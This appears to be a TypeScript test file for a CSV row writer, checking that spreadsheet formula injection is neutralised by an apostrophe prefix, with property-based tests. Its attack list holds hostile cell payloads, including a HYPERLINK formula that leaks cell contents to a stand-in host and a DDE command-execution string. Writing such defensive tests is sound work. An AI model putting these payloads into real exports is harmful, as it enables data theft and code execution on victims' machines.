import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow } from './csv.ts';

const attacks = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\ttab',
  '\rreturn',
  '\nline',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  "'=1",
  '"=1',
] as const;

/** A cell as a reader of CSV takes it from its row. */
const read = (row: string): string => {
  const cell = row.slice(0, -2);
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
};

it.each(attacks)('%j cannot run: a reader finds it behind an apostrophe', (text) => {
  expect(read(csvRow([text]))).toBe(`'${text}`);
});

it.each([
  '',
  'ann',
  '192.0.2.7',
  '::1',
  '2026-11-23T14:18:47.630Z',
  '{"fields":["="]}',
  '{"fields":["a","=b"]}',
  '\u2212 1',
  'a=b',
  'a;b',
  "it's",
])('%j stays as it is', (text) => {
  expect(read(csvRow([text]))).toBe(text);
});

it.each([
  ['x;=1+1', "x;'=1+1"],
  ['x\t=1+1', "x\t'=1+1"],
  ['x\n=1+1', "x\n'=1+1"],
  ['x; "=1+1', 'x;\' "=1+1'],
  ['\t=1+1', "'\t'=1+1"],
  ['=a;-b', "'=a;'-b"],
])('%j cannot run where it is torn apart, either', (text, found) => {
  expect(read(csvRow([text]))).toBe(found);
});

it('is quoted as RFC 4180 has it', () => {
  expect(csvRow(['a', 'b,c', 'say "so"', 'two\r\nlines', 'one\nmore', ''])).toBe(
    'a,"b,c","say ""so""","two\r\nlines","one\nmore",\r\n',
  );
});

it('an apostrophe does not break out of the quotes', () => {
  expect(csvRow(['="a",b', '=c'])).toBe('"\'=""a"",b",\'=c\r\n');
});

/** What begins a cell that a spreadsheet runs: it drops what stands around a text. */
const RUN = /^["\s\0\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/** The cells that a spreadsheet makes of a row where another sign separates: none begins at one of our quotes. */
const cellsOf = (row: string, separator: string): string[] =>
  row.split(/[\r\n]/).flatMap((line) => line.split(separator));

const anyText = fc.string({
  unit: fc.constantFrom(...'=+-@\uff1d;\t\r\n \u00a0\'",a\0\ufeff'),
  maxLength: 12,
});

/** Takes away what was put there, as the command's help says it. */
const original = (cell: string): string =>
  cell.replace(
    /(?<=^|[;\t\r\n])'(?=[[\s\p{Cc}\u200b\ufeff'"]--[\t\r\n]]*[=+\-@\uff1d])|^'(?='*[\t\r\n])/gv,
    '',
  );

describe('any text', () => {
  it.each([';', '\t'])('runs nowhere, where %j separates', (separator) => {
    const property = fc.property(anyText, (text) => {
      const row = csvRow(['2026-11-23', text, 'end']);
      expect(cellsOf(row, separator).filter((cell) => RUN.test(cell))).toEqual([]);
    });
    fc.assert(property, { seed: 20_261_123, numRuns: 20_000 });
  });

  it('runs nowhere for whoever separates as we do', () => {
    const property = fc.property(anyText, (text) => {
      expect(read(csvRow([text]))).not.toMatch(/^[\t\r\n]|^[\s\0\u200b\ufeff]*[=+\-@\uff1d]/);
    });
    fc.assert(property, { seed: 20_261_123, numRuns: 20_000 });
  });

  it('can be read back exactly', () => {
    const property = fc.property(anyText, (text) => {
      expect(original(read(csvRow([text])))).toBe(text);
    });
    fc.assert(property, { seed: 20_261_123, numRuns: 20_000 });
  });
});
